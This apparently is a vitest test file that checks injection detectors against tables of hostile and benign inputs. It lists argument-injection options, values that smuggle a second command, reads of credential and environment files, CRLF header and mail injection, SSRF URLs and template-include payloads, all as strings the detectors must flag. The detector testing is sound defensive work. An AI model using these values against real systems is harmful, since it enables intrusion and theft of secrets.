import { expect, it } from 'vitest';
import { cmdi } from './cmdi.ts';
import { codei } from './codei.ts';
import { crlf } from './crlf.ts';
import { ldap } from './ldap.ts';
import { nosqli } from './nosqli.ts';
import { proto } from './proto.ts';
import { ssrf } from './ssrf.ts';
import { ssti } from './ssti.ts';
import { detectIn } from './testing/detect-in.ts';
import type { Detector } from './types.ts';
import { xss } from './xss.ts';

/**
 * Forms that the manuals of languages, engines and tools name and that no collection of attacks had taught: a case each.
 * What each does stands in the tool's own documentation.
 */
const ATTACKS: ReadonlyArray<readonly [Detector, readonly string[]]> = [
  [
    // Options by which a program runs, loads or sends what they name.
    cmdi,
    [
      '--gpu-launcher=id',
      '--no-sandbox --renderer-cmd-prefix=id',
      '--browser-subprocess-path=/tmp/x',
      '--load-extension=/tmp/x',
      '--config=alias.log=!id',
      '--config-option=config:tunnels:ssh=id',
      '--diff-cmd=id',
      '--script-shell=/tmp/x',
      '--unzip-command=id',
      '-T -TT id',
      '--rsync-path=id',
      "-e 'sh x.sh'",
      '-e use_askpass=/tmp/x',
      '--command=\\! id',
      "-cmd '.shell id'",
      '-c :!id',
      '-OQueueDirectory=/tmp -X/tmp/x.php',
      'a -OQueueDirectory=/tmp -X/tmp/x.php@b.example',
      '-be ${run{id}}',
      '-XX:OnOutOfMemoryError=id',
      '-javaagent:/tmp/x.jar',
      '-agentlib:jdwp=transport=dt_socket',
      '-execdir id ;',
      '-fls /tmp/x',
      '-v /:/host',
      '-F a=@/etc/hosts',
      '--data-binary @/proc/self/environ',
      '--defaults-file=/tmp/x',
      '--lua-filter=/tmp/x',
      '-engine /tmp/x.so',
      '--split-string=sh x',
      '-platformpluginpath \\\\a.example\\b',
      'BASH_ENV=/tmp/x',
      'ext::sh -c id',
      // Behind a piece of data.
      'a.txt;ps aux',
      '192.0.2.7;docker ps',
      '192.0.2.7&&ls;',
      '1;kill -9 1',
      'shop.example\nid',
    ],
  ],
  [
    codei,
    [
      'reload(__builtins__)',
      "os.environ.get('AWS_SESSION_TOKEN')",
      "ENV['AWS_SESSION_TOKEN']",
      "getattr(sys.modules['os'],'sys'+'tem')('id')",
      '=IMPORTDATA("http://a.example/"&A2)',
      "';puts 6*7",
    ],
  ],
  [
    crlf,
    [
      'en\r\nCache-Control: public',
      'en\nStrict-Transport-Security: max-age=0',
      'en\r\nCookie: a=b',
      'en\r\nVary: *',
      'en\r\nAuthorization: Bearer x',
      '/a HTTP/1.1\r\nHost: inside\r\n\r\nGET /admin HTTP/1.1',
      'a@b.example>\r\nRCPT TO:<c@d.example>',
      'hello\r\n.\r\nMAIL FROM:<a@b.example>\r\n',
      'a; Path=/; HttpOnly\r\nSet-Cookie: b=c',
    ],
  ],
  [ldap, ['*)(memberOf:dn:2.5.13.5:=a', '(uid=adm*)', '(|(title=a*))', '(!(cn=a*)(mail=*))']],
  [proto, ['__proto__:\n  admin: true', '[__proto__]\nadmin = true']],
  [
    ssrf,
    [
      'http:@0/',
      'http://[fec0::1]/',
      'ht\ttp://127.0.0.1/',
      'http://db.internal:8080/',
      'http://vault.service.consul/',
    ],
  ],
  [
    ssti,
    [
      '<%include file="/etc/hosts"/>',
      '<#include "/etc/hosts">',
      '<#import "http://a.example/a.ftl" as a>',
      "{include '/var/task/.env'}",
      '#{systemProperties}',
      '{{ get_env(name="HOME") }}',
      '{{ __tera_context }}',
    ],
  ],
];

const HONEST: ReadonlyArray<readonly [Detector, readonly string[]]> = [
  [cmdi, ['--no-sandbox', '-v, --verbose', '--pager', 'Node.js & npm install', 'v1.2; see below', 'a.txt;b.txt']],
  [codei, ['=IMPORTDATA("https://a.example/b.csv")', 'puts the kettle on']],
  [crlf, ['Anna\nVary your route', 'a; b\nLink: tbd', 'Cookie\nconnection: bad', 'HTTP/1.1\nnotes']],
  [ldap, ['(see a*)', '(a|b*)']],
  [nosqli, ['this.total = 0', 'this.length > 7']],
  [proto, ['prototype:\n  a: b']],
  [
    ssrf,
    [
      'https://en.wikipedia.org/wiki/Who_is_it%3F',
      'https://de.wikipedia.org/wiki/Was_ist_Zeit%3F',
      '[Astra](https://astra.example)は、道具です。',
      'http://[fedc:ba98:7654:3210:fedc:ba98:7654:3210]:80/index.html',
    ],
  ],
  [ssti, ['<#include "/common/header.ftl">', '{{ environment }}', "{include 'footer.latte'}"]],
  [xss, ['`-f` is shorthand for `--function`']],
];

const cases = (table: typeof ATTACKS) =>
  table.flatMap(([detector, values]) => values.map((value) => [detector.class, value, detector] as const));

it.each(cases(ATTACKS))('%s: finds %j', (_class, value, detector) => {
  expect(detectIn(detector, value)).toMatch(/medium|high/);
});

it.each(cases(HONEST))('%s: leaves %j', (_class, value, detector) => {
  expect([undefined, 'low']).toContain(detectIn(detector, value));
});

it('finds an operator of MongoDB at the start of a name', () => {
  expect(detectIn(nosqli, '$or[0][name]', true)).toMatch(/medium|high/);
});
